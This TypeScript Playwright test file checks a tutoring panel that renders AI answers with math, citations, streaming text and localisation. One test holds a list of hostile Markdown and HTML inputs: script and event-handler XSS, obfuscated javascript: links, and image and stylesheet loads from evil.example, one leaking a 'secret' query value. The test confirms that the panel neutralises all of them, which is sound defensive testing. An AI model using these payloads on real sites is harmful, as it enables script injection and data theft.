import type { Entry } from '../store/rows.ts'
import { expect, type PanelHands, test } from './panel-page/panel-test.ts'
import { entry, longLesson, TAB } from './panel-page/rows-for-tests.ts'

type Answer = NonNullable<Entry['answer']>
const WIKI = {
  source: {
    n: 2,
    title: 'Distributive property',
    address: 'https://en.wikipedia.example/wiki/Distributive_property',
    quote: 'A factor before a bracket multiplies each term inside it.',
    passage: null,
  },
  mark: null,
}
const LESSON = {
  source: {
    n: 1,
    title: 'Linear equations, lesson 4',
    address: 'https://algebra.example/lessons/linear-equations',
    quote: 'The 2 goes to both terms.',
    passage: 'p1',
  },
  mark: 'm1',
}
const TEXT = `The factor goes to **both** terms: $2(x+3) = 2x + 6$ [1], as the law says [2]. So $2 + 2 = 5$ here.

\`\`\`js
const twice = (x) => 2 * (x + 3) // which is a line far too long for a panel
\`\`\`

| term | times 2 |
|---|---|
| $x$ | $2x$ |

- one
- [two](https://algebra.example/two)
- three
- four
- five`

function answer(text: string, changes: Partial<Entry> = {}, known: Partial<Answer> = {}): Entry {
  const whole: Answer = {
    thought: 't',
    sources: [LESSON, WIKI],
    by: 'model',
    model: 'qwen3:8b',
    struck: [{ text: '2 + 2 = 5', why: 'The left side is 4, the right side 5.' }],
  }
  return entry('e1', 1, { text, answer: { ...whole, ...known }, ...changes })
}

const ALL = { colorScheme: 'dark', forcedColors: 'none' } as const
const MODES = [{ ...ALL, colorScheme: 'light' }, ALL, { ...ALL, forcedColors: 'active' }] as const

async function unfold(panel: PanelHands) {
  await panel.entry('e1').getByRole('button', { name: 'More', exact: true }).press('Enter')
}

test('an answer shows its first lines, the rest on request, and what each source says', async ({
  panel,
  page,
}, info) => {
  await panel.open({ entries: [answer(TEXT)] })
  const said = panel.said('e1')
  await expect(said.locator('math')).toHaveCount(4)
  await expect(said.locator('li')).toHaveCount(0)
  await unfold(panel)
  await expect(panel.entry('e1').getByRole('button', { name: 'Less', exact: true })).toBeFocused()
  await expect(said.locator('li')).toHaveCount(5)
  await expect(said.locator('table math')).toHaveCount(2)
  await expect(said.locator('del.struck math')).toHaveCount(1)
  await expect(said).toContainText('Not right: The left side is 4, the right side 5.')
  await expect(panel.entry('e1').locator('[data-answer-from]')).toContainText('From qwen3:8b.')

  await said.getByRole('button', { name: /^Source 1/ }).press('Enter')
  await expect(said.getByRole('region', { name: /^Source 1/ })).toContainText('The 2 goes to both terms.')
  expect((await panel.posted()).at(-1)).toMatchObject({ kind: 'show-mark', mark: 'm1' })
  const law = said.getByRole('link', { name: /^Source 2/ })
  await page
    .context()
    .route('https://en.wikipedia.example/**', (route) => route.fulfill({ body: 'The law.' }))
  for (const press of [() => law.click(), () => law.press('Enter')]) {
    const [opened] = await Promise.all([page.context().waitForEvent('page'), press()])
    await expect
      .poll(() => opened.url())
      .toMatch(/^https:\/\/en\.wikipedia\.example\/wiki\/Distributive_property/)
    await opened.close()
    await expect(said.getByRole('region', { name: /^Source 2/ })).toContainText(
      'multiplies each term inside it',
    )
  }
  await expect(law).toHaveAttribute('href', /Distributive_property#:~:text=A%20factor%20before/)
  expect((await panel.posted()).filter(({ kind }) => kind === 'show-mark')).toHaveLength(1)
  const link = said.getByRole('link', { name: 'Open it there' })
  await expect(link).toHaveAttribute('href', /Distributive_property#:~:text=A%20factor%20before/)
  for (const each of await page.locator('#panel a').all()) {
    await expect(each).toHaveAttribute('rel', 'noopener noreferrer')
    await expect(each).toHaveAttribute('target', '_blank')
  }
  for (const media of MODES) {
    await page.emulateMedia(media)
    await panel.expectNoSidewaysScroll()
    await panel.expectAccessible()
    await info.attach(`${media.colorScheme} ${media.forcedColors}`, {
      body: await page.screenshot(),
      contentType: 'image/png',
    })
  }
})

test('while it comes nothing half is drawn, and a screen reader hears it once', async ({ panel, page }) => {
  await panel.open({ entries: [entry('e0', 0, { text: 'Let me think about that.' })] })
  await panel.entry('e0').waitFor()
  await page.evaluate(() => {
    const said: string[] = []
    Object.assign(window, { heard: said })
    const place = document.querySelector('[data-announcer]')
    if (place !== null)
      new MutationObserver(() => said.push(place.textContent ?? '')).observe(place, {
        childList: true,
        subtree: true,
        characterData: true,
      })
  })
  const steps = ['The **fac', 'The **factor** goes to $2(x+', 'The **factor** goes to $2(x+3)$ [1].']
  const seen = ['The fac', 'The factor goes to', 'The factor goes to']
  for (const [index, text] of steps.entries()) {
    const coming = { by: null, model: null, sources: [], struck: [] }
    await panel.write({ entries: [answer(text, { state: 'speaking' }, coming)] })
    await expect(panel.said('e1').locator('p')).toContainText(seen[index] ?? '')
    await expect(panel.said('e1').locator('p')).not.toContainText(/\*|\$/)
  }
  await expect(panel.entry('e1').locator('[data-coming]')).toBeVisible()
  await panel.entry('e1').getByRole('button', { name: 'Stop', exact: true }).click()
  expect((await panel.posted()).at(-1)).toMatchObject({ kind: 'voice', what: 'stop' })
  await panel.write({ entries: [answer(steps[2] ?? '', {}, { sources: [], struck: [] })] })
  await expect(panel.announcer).toHaveText('The factor goes to 2(x+3).')
  await expect(panel.entry('e1').locator('[data-answer-from]')).toHaveText('From qwen3:8b, no source given.')
  const heard = await page.evaluate(() => (window as unknown as { heard: string[] }).heard)
  expect([...new Set(heard.filter((text) => text.includes('factor')))]).toHaveLength(1)
})

const HOSTILE = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1"><svg/onload=window.hacked=1>',
  '<iframe srcdoc="<script>top.hacked=1</script>"></iframe><base href=https://evil.example>',
  '<style>@import url(https://evil.example/a.css)</style><link rel=stylesheet href=https://evil.example/b.css>',
  '![x](https://evil.example/leak.png?q=secret) ![y][r]\n\n[r]: https://evil.example/r.png',
  '[a](javascript:window.hacked=1) [b](JaVa&#115;cript:window.hacked=1) [c](data:text/html,<script>1</script>)',
  '<javascript:window.hacked=1> <https://evil.example/auto>',
  '[d](https://good.example@evil.example/ "onmouseover=window.hacked=1")',
  '$\\href{javascript:window.hacked=1}{x}$ $$\\includegraphics{https://evil.example/f.png}$$',
  '| <img src=x onerror=window.hacked=1> | a |\n|-|-|\n| ![z](https://evil.example/t.png) | b |',
  '```html\n<script>window.hacked=1</script>\n```',
  `${'- '.repeat(200)}<img src=x onerror=window.hacked=1>`,
  `${'>'.repeat(3000)} deep`,
  '[[[['.repeat(500),
  '**_~~'.repeat(300),
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;',
]

test('hostile Markdown runs nothing, loads nothing and leaves the panel usable', async ({ panel, page }) => {
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  const source = (quote: string) => ({
    ...LESSON,
    mark: null,
    source: { ...LESSON.source, quote, title: quote },
  })
  const known = { sources: [source(HOSTILE[1] ?? '')], struck: [], model: HOSTILE[0] ?? '' }
  const entries = [...HOSTILE, HOSTILE.join('\n\n'), `${'<b>[x](javascript:1) $y$ '.repeat(44_000)}`].flatMap(
    (text, index) => [
      answer(`${text}\n\nEnd [1].`, { id: `h${index}`, at: 1000 + index }, known),
      answer(text, { id: `s${index}`, at: 2000 + index, state: 'speaking' }, { ...known, by: null }),
    ],
  )
  expect(entries.at(-1)?.text.length).toBeGreaterThan(1_000_000)
  await panel.open()
  for (const each of entries) {
    await panel.write({ entries: [each] })
    await panel.entry(each.id).waitFor()
    for (const press of ['.unfolds', '.cite'])
      await panel
        .entry(each.id)
        .locator(press)
        .evaluateAll((buttons) => {
          for (const button of buttons) if (button instanceof HTMLElement) button.click()
        })
    expect(
      await page
        .locator(
          '#panel :is(img, script, iframe, object, link, base, style, [onerror], [onload], [onmouseover])',
        )
        .count(),
    ).toBe(0)
    for (const link of await page.locator('#panel a').all())
      expect(await link.getAttribute('href')).toMatch(/^https?:\/\//)
    await test.step(each.id, () => panel.expectNoSidewaysScroll())
    await page.evaluate(() => window.panelPage.database.entries.clear())
  }
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(requests.filter((address) => !/^(http:\/\/localhost|data:image)/.test(address))).toEqual([])
})

test('in German, at 320 px, after a long conversation', async ({ panel, page }, info) => {
  await page.setViewportSize({ width: 320, height: 800 })
  const { entries, remarks } = longLesson(60)
  const last = answer(TEXT, { at: Number.MAX_SAFE_INTEGER / 2 }, { by: 'extracts', model: null })
  await panel.open(
    { entries: [...entries, { ...last, at: (entries.at(-1)?.at ?? 0) + 1000 }], remarks },
    TAB,
    'de',
  )
  await expect(panel.entry('e1').locator('[data-answer-from]')).toContainText('Auszüge')
  await expect(panel.said('e1').locator('li')).toHaveCount(5)
  await expect(panel.entry('e1').getByRole('button', { name: 'Mehr', exact: true })).toHaveCount(0)
  await panel.expectNoSidewaysScroll()
  await panel.expectAccessible()
  await info.attach('de', { body: await page.screenshot(), contentType: 'image/png' })
})

test('what the reasoner does is said while it has no words yet', async ({ panel, page }) => {
  await panel.open({ entries: [entry('e0', 0, { text: 'Let me look that up.' })] })
  await page.evaluate(
    (tab) =>
      window.panelPage.presence({
        kind: 'presence',
        reading: [{ tab, tutoring: 't1' }],
        beyond: [],
        fault: null,
        thinking: [{ tutoring: 't1', at: 1, doing: 'searching', about: 'rings', progress: 0.5 }],
      }),
    TAB,
  )
  await expect(page.locator('[data-thinking=searching]')).toContainText('Searching… rings')
  await panel.expectAccessible()
  await page.getByRole('button', { name: 'Never mind' }).click()
  await expect(page.getByRole('textbox')).toBeFocused()
  expect(await panel.posted()).toContainEqual(
    expect.objectContaining({ kind: 'drop-thoughts', tutoring: 't1' }),
  )
  await panel.answer()
  await expect(page.locator('[data-thinking]')).toHaveCount(0)
})
